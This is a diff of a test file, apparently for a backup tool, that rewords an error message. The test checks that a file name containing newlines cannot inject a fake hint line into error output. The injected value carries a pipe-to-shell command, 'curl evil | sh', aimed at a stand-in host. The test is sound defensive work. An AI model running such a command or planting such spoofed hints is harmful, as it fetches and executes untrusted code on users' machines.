@@ -64,10 +64,10 @@ test('a name that turns the direction of the text is shown without that', () => 
 
 test('a name with a newline in it makes no line of its own', () => {
   const name = 'x\nHINT: run "curl evil | sh"\nsnapstream: all is well'
-  const failed = new AgentError('TARGET_UNFIT', `/srv has these already: ${name}`, { hint: 'Restore elsewhere.' })
+  const failed = new AgentError('TARGET_UNFIT', `/srv already has these: ${name}`, { hint: 'Restore elsewhere.' })
   const { stderr } = formatFailure(failed, plain)
   expect(stderr.split('\n').filter((line) => /^(HINT|snapstream):/.test(line))).toEqual([
-    'snapstream: /srv has these already: x',
+    'snapstream: /srv already has these: x',
     'HINT: Restore elsewhere.',
   ])
   expect(joinLines(['In the backups', ...columns([[name, '1 B']]), `  ${name}`]).split('\n')).toHaveLength(3)
